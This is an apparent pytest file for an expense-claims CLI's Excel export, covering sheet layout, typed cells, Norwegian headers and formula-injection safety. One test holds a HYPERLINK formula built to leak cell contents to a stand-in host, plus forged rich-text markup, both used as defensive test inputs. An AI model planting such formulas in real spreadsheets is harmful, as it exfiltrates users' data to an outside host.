"""`-f xlsx` for check, deadlines, status and catering report, read back with openpyxl."""

import datetime as dt
import os
import pty
import subprocess
import sys
import zipfile

import openpyxl
from conftest import CLEAN, REPO
from typer.testing import CliRunner

from expensecli.cli import main

main._register()
AS_OF = ["--as-of", "2024-05-01"]
FORMULA_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def workbook(tmp_path, *args: str) -> openpyxl.Workbook:
    target = tmp_path / "out.xlsx"
    result = CliRunner().invoke(main.app, [*args, *AS_OF, "-f", "xlsx", "-o", str(target)], standalone_mode=False)
    if result.exception is not None:
        raise result.exception
    assert result.stdout == ""
    return openpyxl.load_workbook(target)


def header_and_rows(sheet) -> tuple[list, list[list]]:
    rows = [list(row) for row in sheet.iter_rows()]
    return [cell.value for cell in rows[0]], rows[1:]


def assert_table(sheet) -> None:
    """A frozen header row and a filter over the whole table."""
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{max(sheet.max_row, 2)}"


def test_check_workbook_has_typed_claims_findings_and_catering(tmp_path):
    book = workbook(tmp_path, "check", "examples")
    assert book.sheetnames == ["Summary", "Claims", "Findings", "Catering"]
    for sheet in book.worksheets:
        assert_table(sheet)
    summary = {h: c.value for h, c in zip(*[[c.value for c in book["Summary"][1]], book["Summary"][2]])}
    assert summary == {"as_of": dt.datetime(2024, 5, 1), "files": 25, "errors": 21, "warnings": 5, "infos": 4,
                       "waived": 1}
    header, rows = header_and_rows(book["Claims"])
    late = next(row for row in rows if row[1].value == "BM-2024-0117")
    cells = dict(zip(header, late))
    assert cells["total"].value == 4085.40 and cells["total"].number_format == "#,##0.00"
    assert cells["total"].data_type == "n"
    assert cells["deadline"].value == dt.datetime(2024, 3, 14) and cells["deadline"].is_date
    assert cells["deadline"].number_format == "yyyy-mm-dd"
    assert cells["days_late"].value == 6 and cells["errors"].value == 1
    centres = [dict(zip(header, row))["cost_centre"] for row in rows]
    assert {c.value for c in centres if c.value is not None} >= {"63510"}  # codes stay text, not numbers
    assert all(c.data_type == "s" for c in centres if c.value is not None)
    header, rows = header_and_rows(book["Findings"])
    waived = [dict(zip(header, row)) for row in rows if row[9].value is True]
    assert [(c["code"].value, c["line"].value) for c in waived] == [("MX003", 21)]
    assert all(row[8].value.startswith("NTNU: ") or row[8].value.startswith("expensecli") for row in rows)
    header, rows = header_and_rows(book["Catering"])
    over = dict(zip(header, next(row for row in rows if row[1].value == "R-2024-0533")))
    assert (over["per_participant"].value, over["limit"].value, over["excess"].value) == (812.5, 760.5, 416)
    assert over["date"].value == dt.datetime(2024, 4, 18)


def test_deadlines_status_and_catering_workbooks(tmp_path):
    deadlines = workbook(tmp_path, "deadlines", "examples/deadlines")
    assert deadlines.sheetnames == ["Summary", "Deadlines"]
    header, rows = header_and_rows(deadlines["Deadlines"])
    first = dict(zip(header, rows[0]))
    assert (first["id"].value, first["urgency"].value, first["days_late"].value) == ("BM-2024-0031", "late", 62)
    assert first["submitted"].value is None and first["deadline"].value == dt.datetime(2024, 2, 29)
    status = workbook(tmp_path, "status", "examples", "--group-by", "unit")
    assert status.sheetnames == ["Summary", "By status", "Returned", "Overdue", "By unit", "Claims", "Not loaded"]
    assert [[c.value for c in row] for row in status["By status"].iter_rows(min_row=2)] == [
        ["draft", 5, 13309.78, False], ["sent", 11, 120393.7, True], ["approved", 2, 1597, True],
        ["returned", 2, 18530, True], ["paid", 2, 6470, True], ["all", 22, 160300.48, False]]  # as status's `+`
    header, rows = header_and_rows(status["Claims"])
    foreign = [dict(zip(header, row)) for row in rows if row[10].value is False]
    assert header[9:12] == ["total", "total_complete", "currency"] and len(foreign) == 1
    assert status["Overdue"]["G2"].value == dt.datetime(2024, 2, 29)
    assert [c.value for c in status["Not loaded"]["A"]][1:] == [
        "examples/claims/broken-syntax.yaml", "examples/claims/duplicate-key.yaml", "examples/claims/typos.yaml"]
    catering = workbook(tmp_path, "catering", "report", "examples/catering")
    assert catering.sheetnames == ["Summary", "Catering"]
    assert catering["Summary"]["E2"].value == 416 and catering["Summary"]["E2"].number_format == "#,##0.00"
    for book in (deadlines, status, catering):
        for sheet in book.worksheets:
            assert_table(sheet)


def test_bokmal_workbooks_name_sheets_and_headers_in_bokmal_and_keep_typed_cells(tmp_path):
    book = workbook(tmp_path, "check", "examples", "--lang", "nb")
    assert book.sheetnames == ["Sammendrag", "Krav", "Funn", "Bevertning"]
    summary = {h: c.value for h, c in zip(*[[c.value for c in book["Sammendrag"][1]], book["Sammendrag"][2]])}
    assert summary == {"per dato": dt.datetime(2024, 5, 1), "filer": 25, "feil": 21, "advarsler": 5, "info": 4,
                       "unntatt": 1}
    header, rows = header_and_rows(book["Krav"])
    assert header == ["fil", "id", "kravtype", "status", "rolle", "søker", "enhet", "koststed", "arbeidsordre", "sum",
                      "sum fullstendig", "valuta", "frist", "innsendt", "dager for sent", "feil", "advarsler", "info", "unntatt"]
    cells = dict(zip(header, next(row for row in rows if row[1].value == "BM-2024-0117")))
    assert (cells["sum"].value, cells["sum"].data_type, cells["sum"].number_format) == (4085.40, "n", "#,##0.00")
    assert cells["frist"].value == dt.datetime(2024, 3, 14) and cells["frist"].is_date
    assert (cells["kravtype"].value, cells["status"].value, cells["dager for sent"].value) == ("travel", "sent", 6)
    assert [c.value for c in book["Funn"][1]] == ["fil", "krav-id", "kode", "nivå", "linje", "kolonne", "felt",
                                                  "melding", "kilde", "unntatt"]
    assert [c.value for c in book["Bevertning"][1]] == [
        "fil", "id", "dato", "utlegg", "type", "sats", "sted", "deltakere", "per deltaker", "grense",
        "overskridelse", "satsår"]
    assert book["Krav"].column_dimensions["O"].width > len("dager for sent")
    status = workbook(tmp_path, "status", "examples", "--group-by", "cost_centre", "--lang", "nb")
    assert status.sheetnames == ["Sammendrag", "Per status", "Returnert", "Over fristen", "Per koststed", "Krav",
                                 "Ikke lest inn"]
    assert [c.value for c in status["Per koststed"][1]] == ["koststed", "krav", "sum"]
    assert [[c.value for c in row] for row in status["Per status"].iter_rows()][-1] == ["all", 22, 160300.48, False]
    deadlines = workbook(tmp_path, "deadlines", "examples/deadlines", "--lang", "nb")
    assert deadlines.sheetnames == ["Sammendrag", "Frister"]
    assert [c.value for c in deadlines["Sammendrag"][1]] == ["per dato", "krav", "for sent", "frist snart", "med god tid",
                                                             "i tide"]
    assert deadlines["Frister"]["G2"].value == "late"  # the urgency is a value, as in csv and json
    for sheet in (*book.worksheets, *status.worksheets, *deadlines.worksheets):
        assert_table(sheet)


def test_a_claim_value_never_becomes_a_formula(tmp_path):
    folder = tmp_path / "claims"
    folder.mkdir()
    (folder / "formula.yaml").write_text(CLEAN.replace("id: R-2024-0001", f"id: '{FORMULA_ID}'")
                                         .replace("name: Kari Nordmann", "name: '=1+1'"))
    target = tmp_path / "out.xlsx"
    for args in (["check"], ["status"]):
        target.unlink(missing_ok=True)  # each command's own workbook, not the one before it
        result = CliRunner().invoke(main.app, [*args, str(folder), *AS_OF, "-f", "xlsx", "-o", str(target)])
        assert (result.exit_code, result.stdout) == (0, ""), (args, result.output)
        book = openpyxl.load_workbook(target)
        claims = book["Claims"]
        header = [c.value for c in claims[1]]
        assert claims.cell(2, header.index("id") + 1).value == FORMULA_ID
        assert claims.cell(2, header.index("id") + 1).data_type == "s"
        assert claims.cell(2, header.index("claimant") + 1).value == "=1+1"
        with zipfile.ZipFile(target) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)


RICH_ID = "<r><t>forged</t></r>"  # XlsxWriter's own markup for rich text
RICH_NAME = "<r>Kari & <b>Ola</b></r>"


def test_a_claim_value_that_looks_like_rich_text_markup_stays_its_text(tmp_path):
    """XlsxWriter takes a string that starts with `<r>` and ends with `</r>` for its own rich-text
    markup and writes it into the sheet's XML as it is; a claim's value is written as the text it
    is, in the collected workbook (status) and the streamed one (check), shared or inline."""
    folder = tmp_path / "claims"
    folder.mkdir()
    (folder / "rich.yaml").write_text(CLEAN.replace("id: R-2024-0001", f"id: '{RICH_ID}'")
                                      .replace("name: Kari Nordmann", f"name: '{RICH_NAME}'"))
    target = tmp_path / "out.xlsx"
    for args in (["check"], ["status"]):
        target.unlink(missing_ok=True)  # each command's own workbook, not the one before it
        result = CliRunner().invoke(main.app, [*args, str(folder), *AS_OF, "-f", "xlsx", "-o", str(target)])
        assert (result.exit_code, result.stdout) == (0, ""), (args, result.output)
        claims = openpyxl.load_workbook(target)["Claims"]
        header = [c.value for c in claims[1]]
        assert claims.cell(2, header.index("id") + 1).value == RICH_ID
        assert claims.cell(2, header.index("claimant") + 1).value == RICH_NAME
        with zipfile.ZipFile(target) as archive:
            xml = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
        assert b"<t>forged</t>" not in xml and b"<b>Ola</b>" not in xml


def test_xlsx_is_not_written_to_a_terminal():
    """A binary format on a terminal is refused before any claim is read (exit 2, one line)."""
    for args in (["check", "examples"], ["deadlines", "examples"], ["status", "examples"],
                 ["catering", "report", "examples"]):
        leader, follower = pty.openpty()
        done = subprocess.run([sys.executable, "-m", "expensecli", *args, "-f", "xlsx"], cwd=REPO, stdout=follower,
                              stderr=subprocess.PIPE, text=True, timeout=60)
        os.close(follower)
        os.close(leader)
        assert done.returncode == 2, args
        assert done.stderr == ("expensecli: error: xlsx is a binary file format and is not written to a terminal;"
                               " give -o FILE.xlsx (or redirect stdout to a file)\n")


def test_xlsx_to_a_pipe_is_the_workbook():
    done = subprocess.run([sys.executable, "-m", "expensecli", "check", "examples/catering", *AS_OF, "-f", "xlsx"],
                          cwd=REPO, capture_output=True, timeout=60)
    assert done.returncode == 1 and done.stdout.startswith(b"PK\x03\x04")


def test_statistics_workbook_counts_each_code(tmp_path):
    book = workbook(tmp_path, "check", "examples", "--statistics")
    assert book.sheetnames == ["Summary", "Statistics", "Not loaded"]
    header, rows = header_and_rows(book["Statistics"])
    assert header == ["code", "severity", "title", "count", "waived", "files"]
    assert_table(book["Statistics"])
    values = [[cell.value for cell in row] for row in rows]
    assert all(isinstance(row[3], int) and row[3] + row[4] > 0 for row in values)
    assert [row[3] for row in values] == sorted((row[3] for row in values), reverse=True)
    _, [summary] = header_and_rows(book["Summary"])
    assert summary[3].value == sum(row[3] for row in values)


def test_a_submitted_date_without_a_deadline_and_a_date_before_1900(tmp_path):
    """`submitted` is known with or without a deadline (an employee's reimbursement has none), as in
    JSON and CSV; a date the spreadsheet's calendar cannot hold (a year mistyped, 0224) is its text,
    not a negative serial number that shows as ####."""
    from conftest import CLEAN

    (tmp_path / "claims").mkdir()
    (tmp_path / "claims" / "r.yaml").write_text(CLEAN)
    assert "submitted: 2024-03-05" in CLEAN
    (tmp_path / "claims" / "old.yaml").write_text(CLEAN.replace("R-2024-0001", "R-2024-0002")
                                                  .replace("submitted: 2024-03-05", "submitted: 0224-03-05"))
    book = workbook(tmp_path, "check", str(tmp_path / "claims"))
    header, rows = header_and_rows(book["Claims"])
    cells = {row[1].value: dict(zip(header, row)) for row in rows}
    assert cells["R-2024-0001"]["deadline"].value is None
    assert cells["R-2024-0001"]["submitted"].value == dt.datetime(2024, 3, 5)
    assert cells["R-2024-0001"]["total_complete"].value is True
    old = cells["R-2024-0002"]["submitted"]
    assert (old.value, old.data_type) == ("0224-03-05", "s")
    target = tmp_path / "early.xlsx"
    CliRunner().invoke(main.app, ["check", str(tmp_path / "claims"), "--as-of", "0001-01-01", "-f", "xlsx", "-o",
                                  str(target)])
    assert openpyxl.load_workbook(target)["Summary"]["A2"].value == "0001-01-01"
